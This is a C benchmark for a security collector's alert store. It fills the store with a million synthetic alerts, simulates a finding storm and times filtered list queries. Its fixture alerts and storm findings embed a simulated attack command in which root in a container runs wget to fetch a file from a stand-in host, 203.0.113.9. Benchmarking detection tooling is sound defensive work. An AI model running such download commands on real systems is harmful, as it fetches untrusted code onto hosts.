/* bench_alerts.c - an inbox of a million alerts, a storm of ten thousand on top, and how long people wait for lists
 * meanwhile.
 *
 *   bench_alerts DIR [ALERTS [STORM [SECONDS]]]
 *
 * DIR is made and filled where it holds fewer alerts; it may be used again. The storm comes as a collector's would:
 * findings of many hosts in batches, each batch one transaction; questions wait for the batch that is under way. */
#include <errno.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "collector/alert/alert.h"
#include "collector/alert/quiet.h"
#include "collector/store/store_triage.h"

enum { BATCH = 100, FILL_BATCH = 5000, HOSTS = 2000, RULES = 300, CONTAINERS = 50, SILENCES = 20, SAMPLES = 4096, PAGE = 100 };

static struct err err;
static struct clock now_clock; /* the machine's, but it may be set back while old alerts are made */

static void must(int r, const char *what)
{
	if (r >= 0)
		return;
	fprintf(stderr, "%s: %s\n", what, err.msg);
	exit(1);
}

static double ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

static uint32_t dice(void)
{
	static uint64_t x = 88172645463325252ull;

	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	return (uint32_t)(x >> 16);
}

/* ---- filling ---- */

/* As long as those of real findings: container, process with its parent, fields, tags, output. */
static void write_document(struct buf *out, unsigned host, unsigned box, unsigned rule)
{
	buf_reset(out);
	buf_printf(out,
		   "{\"container\":{\"id\":\"%08x%08x\",\"name\":\"web-%u\",\"image\":\"registry.example/team/nginx:1.%u\","
		   "\"image_digest\":\"sha256:%064u\"},\"process\":{\"pid\":%u,\"ppid\":41,\"name\":\"wget\",\"exe\":\"/usr/bin/wget\","
		   "\"cmdline\":\"wget -q http://203.0.113.9/x%u\",\"cwd\":\"/var/www\",\"user\":\"root\",\"uid\":0,\"gid\":0,"
		   "\"login_uid\":null,\"vpid\":7,\"tty\":0,\"session_id\":1,\"start_ns\":123456789,\"cap_effective\":\"0xa80425fb\","
		   "\"parent\":{\"pid\":41,\"name\":\"sh\",\"exe\":\"/bin/dash\",\"cmdline\":\"sh -c wget http://203.0.113.9/x\"}},"
		   "\"fields\":{\"proc.name\":\"wget\",\"proc.cmdline\":\"wget -q http://203.0.113.9/x\",\"user.name\":\"root\","
		   "\"container.name\":\"web-%u\",\"container.image.repository\":\"registry.example/team/nginx\"},"
		   "\"tags\":[\"container\",\"network\",\"T1105\"],\"output\":\"Rule %u: wget ran in web-%u on host-%u (user=root"
		   " command=wget -q http://203.0.113.9/x parent=sh container_id=%08x)\","
		   "\"description\":\"Containers seldom need a download tool; attackers do.\",\"event_type\":\"exec\"}",
		   host, box, box, host % 9, host, 40 + box, rule, box, rule, box, host, host);
}

static void fill_one(struct store *s, uint64_t i, uint64_t count, uint64_t end)
{
	static const char *const words[] = { "informational", "notice", "warning", "error", "critical" };
	static const char *const statuses[] = { "resolved", "resolved", "resolved", "resolved", "resolved", "resolved", "resolved",
						"resolved", "acknowledged", "new" };
	static struct buf document;
	unsigned host = dice() % HOSTS, box = dice() % CONTAINERS, rule = dice() % RULES % (1 + dice() % RULES), level = dice() % 100;
	enum msg_severity severity = level < 2 ? SEVERITY_CRITICAL : level < 12 ? SEVERITY_HIGH : level < 40 ? SEVERITY_MEDIUM :
				     level < 80 ? SEVERITY_LOW : SEVERITY_INFO;
	char rule_name[32], host_name[32], id[32], title[128], key[160], evidence[64];
	uint64_t at = end - (count - i) * (90ull * 86400 * 1000000000 / count);
	int64_t ret;

	snprintf(rule_name, sizeof(rule_name), "Rule %u", rule);
	snprintf(host_name, sizeof(host_name), "host-%u", host);
	snprintf(id, sizeof(id), "%08x%08x", host, box);
	snprintf(title, sizeof(title), "`wget` ran in container web-%u (registry.example/team/nginx:1.%u) on host-%u", box, host % 9, host);
	snprintf(key, sizeof(key), "[\"%s\",\"%s\",\"%s\",%" PRIu64 "]", rule_name, host_name, id, i);
	snprintf(evidence, sizeof(evidence), "[\"agent-%u:5:%" PRIu64 "\"]", host, i);
	buf_init(&document, 65536);
	write_document(&document, host, box, rule);
	const struct store_alert al = { .first_seen_unix_ns = at, .last_seen_unix_ns = at, .count = 1 + dice() % 50,
					.severity = severity, .priority = words[severity],
					.status = statuses[dice() % ARRAY_LEN(statuses)], .assignee = dice() % 20 ? "" : "anna",
					.source = "runtime", .rule = rule_name, .title = title, .host = host_name,
					.agent = host_name, .container_id = id, .document = document.p, .evidence = evidence,
					.fold_key = key };
	must(store_alert_insert(s, &al, &ret, &err), "fill");
	buf_fini(&document);
}

static void fill(struct store *s, uint64_t want)
{
	uint64_t end = clock_unix_ns(&now_clock);
	struct store_status st;
	double begun = ms();
	uint64_t have = 0;

	must(store_status(s, &st, &err), "status");
	have = st.alerts_open ? want : 0; /* filled by an earlier run */
	for (uint64_t i = have; i < want;) {
		must(store_begin(s, &err), "begin");
		for (unsigned k = 0; k < FILL_BATCH && i < want; k++, i++)
			fill_one(s, i, want, end);
		must(store_commit(s, &err), "commit");
	}
	if (!have)
		printf("filled with %" PRIu64 " alerts in %.1f s\n", want, (ms() - begun) / 1e3);
}

static void silence(struct store *s)
{
	for (unsigned i = 0; i < SILENCES; i++) {
		char matchers[64];
		const struct store_silence x = { .matchers = matchers, .reason = "bench", .who = "bench",
						 .begins_unix_ns = clock_unix_ns(&now_clock),
						 .until_unix_ns = clock_unix_ns(&now_clock) + 3600ull * 1000000000 };
		int64_t id;

		snprintf(matchers, sizeof(matchers), "rule=\"Rule %u\" host=host-1*", 200 + i);
		must(store_silence_add(s, &x, &id, &err), "silence");
	}
}

/* ---- questions ---- */

struct question {
	const char *filter;
	uint64_t since_ago_s;
	double pages[SAMPLES], whole[SAMPLES]; /* ms */
	size_t page_count, whole_count;
	uint64_t rows, asked;
};
static struct question questions[] = {
	{ .filter = "" },
	{ .filter = "-status:resolved" },
	{ .filter = "status=new" },
	{ .filter = "severity>=high -status:resolved" },
	{ .filter = "severity=critical", .since_ago_s = 86400 },
	{ .filter = "host=host-17" },
	{ .filter = "rule=\"Rule 250\"" },
	{ .filter = "rule=\"Storm\" host=host-17" },
	{ .filter = "container=web-3 status=new" },
	{ .filter = "assignee=anna status=acknowledged" },
	{ .filter = "silenced:yes" },
	{ .filter = "image~nginx:1.7 -status:resolved" },
	{ .filter = "\"203.0.113.9/x250\"" },
	{ .filter = "process=nosuch" },
};

static int on_row(void *arg, const struct store_alert *al)
{
	(void)al;
	++*(uint64_t *)arg;
	return 0;
}

/* A page of a hundred, and as many further pages as it takes. waited: what went by before it could be asked. */
static void ask(struct store *s, struct question *x, double waited, unsigned most_pages)
{
	char cursor[64] = "", from[64];
	uint64_t rows = 0;
	double begun = ms();

	x->asked++;
	for (unsigned page = 0; page < most_pages; page++) {
		double at = ms();

		memcpy(from, cursor, sizeof(from));
		const struct store_query q = { .filter = slice_of(x->filter), .limit = PAGE - rows, .cursor = from,
					       .since_unix_ns = x->since_ago_s ? clock_unix_ns(&now_clock) - x->since_ago_s * 1000000000 : 0 };
		must(store_alert_query(s, &q, on_row, &rows, cursor, sizeof(cursor), &err), x->filter);
		if (x->page_count < SAMPLES)
			x->pages[x->page_count++] = ms() - at + (page ? 0 : waited);
		if (!cursor[0] || rows >= PAGE)
			break;
	}
	x->rows += rows;
	if (x->whole_count < SAMPLES)
		x->whole[x->whole_count++] = ms() - begun + waited;
}

static int by_size(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return x < y ? -1 : x > y;
}

static double at_share(double *v, size_t n, double share)
{
	qsort(v, n, sizeof(*v), by_size);
	return n ? v[(size_t)((double)(n - 1) * share)] : 0;
}

static void report(const char *when)
{
	printf("\n%s: ms for a page, and for a hundred rows or the end\n%-40s %6s %8s %8s %8s %10s %10s %8s\n", when, "filter", "asked",
	       "page p50", "page p95", "page max", "rows p50", "rows p95", "rows");
	for (size_t i = 0; i < ARRAY_LEN(questions); i++) {
		struct question *x = &questions[i];
		double p50 = at_share(x->pages, x->page_count, 0.5), p95 = at_share(x->pages, x->page_count, 0.95);

		printf("%-40s %6" PRIu64 " %8.1f %8.1f %8.1f %10.1f %10.1f %8.1f\n", x->filter[0] ? x->filter : "(all)", x->asked, p50, p95,
		       at_share(x->pages, x->page_count, 1), at_share(x->whole, x->whole_count, 0.5),
		       at_share(x->whole, x->whole_count, 0.95), x->asked ? (double)x->rows / (double)x->asked : 0);
		x->page_count = x->whole_count = 0;
		x->rows = x->asked = 0;
	}
}

/* ---- the storm ---- */

static void storm_one(struct store *s, unsigned i, uint64_t *made)
{
	static const struct alert_config cfg = { .fold_ms = 86400000 };
	static char name[] = "wget", exe[] = "/usr/bin/wget", args[] = "-q\0http://203.0.113.9/x", user[] = "root", out[] =
		"Storm: wget ran in a container (user=root command=wget -q http://203.0.113.9/x parent=sh)";
	Picket__Record rec = PICKET__RECORD__INIT;
	Picket__Finding f = PICKET__FINDING__INIT;
	Picket__Process p = PICKET__PROCESS__INIT;
	Picket__Container c = PICKET__CONTAINER__INIT;
	char host[32], id[32], box[32], rule[32];
	struct alert_change change;
	struct arena *a = arena_new(1 << 21);
	struct alert_quiet q;
	struct store_alert al;

	snprintf(host, sizeof(host), "host-%u", i % HOSTS);
	snprintf(id, sizeof(id), "%08x%08xstorm", i, (unsigned)getpid());
	snprintf(box, sizeof(box), "web-%u", i % CONTAINERS);
	snprintf(rule, sizeof(rule), i % 4 ? "Storm" : "Rule %u", i % RULES);
	rec.body_case = PICKET__RECORD__BODY_FINDING;
	rec.finding = &f;
	rec.time_unix_ns = clock_unix_ns(&now_clock);
	f.rule = rule;
	f.priority = (char[]){ "Error" };
	f.output = out;
	f.process = &p;
	f.container = &c;
	f.event_type = PICKET__EVENT_TYPE__EVENT_EXEC;
	p.pid = i;
	p.name = msg_bytes(slice_of(name));
	p.exe = msg_bytes(slice_of(exe));
	p.args = msg_bytes(slice_from(args, sizeof(args)));
	p.user = msg_bytes(slice_of(user));
	c.id = id;
	c.name = msg_bytes(slice_of(box));
	c.image = msg_bytes(SLICE_LIT("registry.example/team/nginx:1.7"));
	must(alert_from_finding(s, &cfg, host, host, 5, i + 1, &rec, &change, &err), "finding");
	*made += change.is_new;
	must(store_alert_get(s, change.id, a, &al, &err), "get");
	must(store_inhibit_note(s, &al, &err), "inhibit");
	must(alert_quiet_hold(s, &al, rec.time_unix_ns, &q, &err), "quiet");
	arena_free(a);
}

static void storm(struct store *s, unsigned count, double seconds)
{
	double begun = ms(), worst = 0, spent = 0;
	uint64_t made = 0;
	size_t next = 0;

	for (unsigned i = 0; i < count;) {
		double due = begun + 1e3 * seconds * i / count, at;

		while (ms() < due)
			usleep(1000);
		at = ms();
		must(store_begin(s, &err), "begin");
		for (unsigned k = 0; k < BATCH && i < count; k++)
			storm_one(s, i++, &made);
		must(store_commit(s, &err), "commit");
		at = ms() - at;
		worst = at > worst ? at : worst;
		spent += at;
		/* Asked while the batch was being written: it waits for all of it. */
		ask(s, &questions[next++ % ARRAY_LEN(questions)], at, 1);
	}
	printf("storm: %u findings, %" PRIu64 " new alerts in %.1f s; a batch of %d took %.1f ms on average, %.1f at most\n", count, made,
	       (ms() - begun) / 1e3, BATCH, spent * BATCH / count, worst);
}

int main(int argc, char **argv)
{
	struct store_config cfg = { .dir = argc > 1 ? argv[1] : "bench-alerts", .reserve_bytes = 1, .alerts_max = 100000000 };
	uint64_t alerts = argc > 2 ? strtoull(argv[2], NULL, 10) : 1000000;
	unsigned count = argc > 3 ? (unsigned)atoi(argv[3]) : 10000;
	double seconds = argc > 4 ? atof(argv[4]) : 10;
	struct store *s;

	now_clock = *clock_real();
	if (mkdir(cfg.dir, 0700) < 0 && errno != EEXIST)
		return perror(cfg.dir), 1;
	must(store_open(&cfg, &now_clock, &s, &err), "open");
	fill(s, alerts);
	silence(s);
	storm(s, count, seconds);
	report("during the storm (with the wait for the batch)");
	for (unsigned round = 0; round < 10; round++)
		for (size_t i = 0; i < ARRAY_LEN(questions); i++)
			ask(s, &questions[i], 0, round < 2 ? 1000 : 1);
	report("afterwards");
	store_close(s);
	return 0;
}
